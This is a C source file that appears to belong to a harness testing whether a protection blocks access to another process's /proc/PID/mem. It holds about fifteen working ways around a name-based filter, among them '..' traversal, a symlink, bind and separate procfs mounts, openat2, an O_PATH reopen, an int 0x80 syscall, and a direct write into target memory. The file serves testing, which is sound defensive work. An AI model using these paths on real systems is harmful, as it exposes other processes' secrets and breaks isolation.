/*
 * mem.c - /proc/PID/mem by every path to it that a filter of names does not know.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <unistd.h>

#include "arch.h"

static char low_path[64]; /* below 4 GB, for int 0x80 */

/* Takes a descriptor or an errno. */
static int read_heap(const struct attack *a, int fd)
{
	return fd < 0 ? fd : saw_at(a, fd, a->target.heap);
}

/* text: whose, a space, a name with at most one %d for a thread's number. */
static int open_plain(struct attack *a)
{
	char name[64];

	(void)snprintf(name, sizeof(name), "task/%d/mem", (int)a->target.tid);
	return read_heap(a, open_of(who(a, a->row->text[0]), a->row->number ? name : "mem", O_RDONLY));
}

static int open_through(struct attack *a)
{
	char path[64];

	(void)snprintf(path, sizeof(path), a->row->number ? "/proc/self/../%d/mem" : "/proc/thread-self/../../../%d/mem",
		       (int)a->target.pid);
	return read_heap(a, open_path(path, O_RDONLY));
}

static int open_link(struct attack *a)
{
	char path[64], link[64];
	int result;

	(void)snprintf(path, sizeof(path), "/proc/%d/mem", (int)a->target.pid);
	(void)snprintf(link, sizeof(link), "/tmp/attack.link.%d", (int)getpid());
	if (symlink(path, link) < 0)
		return -errno;
	result = read_heap(a, open_path(link, O_RDONLY));
	(void)unlink(link);
	return result;
}

static int open_relative(struct attack *a)
{
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%d", (int)a->target.pid);
	if (chdir(path) < 0)
		return -errno;
	return read_heap(a, open_path("mem", O_RDONLY));
}

static int hold_folder(struct attack *a)
{
	a->fd = open_of(a->target.pid, "", O_RDONLY | O_DIRECTORY);
	return a->fd < 0 ? a->fd : 0;
}

static int open_beneath(struct attack *a)
{
	struct {
		uint64_t flags, mode, resolve;
	} how = { O_RDONLY, 0, 0 };
	int fd = a->fd < 0 ? hold_folder(a) : 0;

	if (fd < 0)
		return fd;
	fd = a->row->number ? (int)syscall(SYS_openat2, a->fd, "mem", &how, sizeof(how)) : openat(a->fd, "mem", O_RDONLY);
	return read_heap(a, fd < 0 ? -errno : fd);
}

static int open_elsewhere(struct attack *a)
{
	char path[80];
	int result = mount_own("proc");

	if (result < 0)
		return result;
	(void)snprintf(path, sizeof(path), OWN_MOUNT "/%d/mem", (int)a->target.pid);
	return read_heap(a, open_path(path, O_RDONLY));
}

static int open_bound(struct attack *a)
{
	char from[64], to[64];
	int fd;

	(void)snprintf(from, sizeof(from), "/proc/%d/mem", (int)a->target.pid);
	(void)snprintf(to, sizeof(to), "/tmp/attack.bound.%d", (int)getpid());
	fd = open(to, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
	if (fd < 0 || mount(from, to, NULL, MS_BIND, NULL) < 0)
		return -errno;
	fd = read_heap(a, open_path(to, O_RDONLY));
	(void)umount2(to, MNT_DETACH);
	(void)unlink(to);
	return fd;
}

/* A descriptor that opens nothing yet, opened again. */
static int open_again(struct attack *a)
{
	char path[64];
	int fd = open_of(a->target.pid, "mem", O_PATH);

	if (fd < 0)
		return fd;
	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return read_heap(a, open_path(path, O_RDONLY));
}

static int open_int80(struct attack *a)
{
	(void)snprintf(low_path, sizeof(low_path), "/proc/%d/mem", (int)a->target.pid);
	return read_heap(a, (int)arch_int80(I386_OPEN, (long)low_path, O_RDONLY, 0, 0, 0, 0));
}

static int write_it(struct attack *a)
{
	int fd = open_of(a->target.pid, "mem", O_RDWR);

	if (fd < 0)
		return fd;
	if (pwrite(fd, "here", 4, (off_t)a->target.scratch) < 0)
		return -errno;
	return LEAKED;
}

const struct row mem_rows[] = {
	{ .name = "mem", .vector = "proc_mem", .what = "/proc/PID/mem", .run = open_plain, .text = "p" },
	{ .name = "mem_task", .vector = "proc_mem", .what = "/proc/PID/task/TID/mem", .run = open_plain, .text = "p",
	  .number = 1 },
	{ .name = "mem_thread", .vector = "proc_mem", .what = "/proc/TID/mem", .run = open_plain, .text = "t" },
	{ .name = "mem_child", .vector = "proc_mem", .what = "of a child made before protection", .run = open_plain,
	  .text = "c" },
	{ .name = "mem_late_child", .vector = "proc_mem", .what = "of a child made after it", .run = open_plain,
	  .text = "l" },
	{ .name = "mem_write", .vector = "proc_mem", .what = "open for reading and writing, write", .run = write_it },
	{ .name = "mem_dotdot", .vector = "proc_mem", .what = "/proc/self/../PID/mem", .run = open_through, .number = 1 },
	{ .name = "mem_thread_self", .vector = "proc_mem", .what = "/proc/thread-self/../../../PID/mem",
	  .run = open_through },
	{ .name = "mem_symlink", .vector = "proc_mem", .what = "through a symbolic link", .run = open_link },
	{ .name = "mem_relative", .vector = "proc_mem", .what = "chdir(/proc/PID), open(mem)", .run = open_relative },
	{ .name = "mem_openat", .vector = "proc_mem", .what = "openat from a descriptor of /proc/PID", .run = open_beneath },
	{ .name = "mem_openat2", .vector = "proc_mem", .what = "openat2 from it", .run = open_beneath, .number = 1 },
	{ .name = "mem_other_procfs", .vector = "proc_mem", .what = "through a procfs mounted elsewhere",
	  .run = open_elsewhere, .flags = MOUNTS },
	{ .name = "mem_bind", .vector = "proc_mem", .what = "the file bound to another name", .run = open_bound,
	  .flags = MOUNTS },
	{ .name = "mem_path_descriptor", .vector = "proc_mem", .what = "O_PATH, then /proc/self/fd/N", .run = open_again },
	{ .name = "mem_int80", .vector = "proc_mem", .what = "open through int 0x80", .run = open_int80 },
	{ .name = "earlier_folder", .vector = "proc_open_earlier", .what = "openat from a descriptor of /proc/PID held before",
	  .run = open_beneath, .hold = hold_folder },
	{ 0 },
};
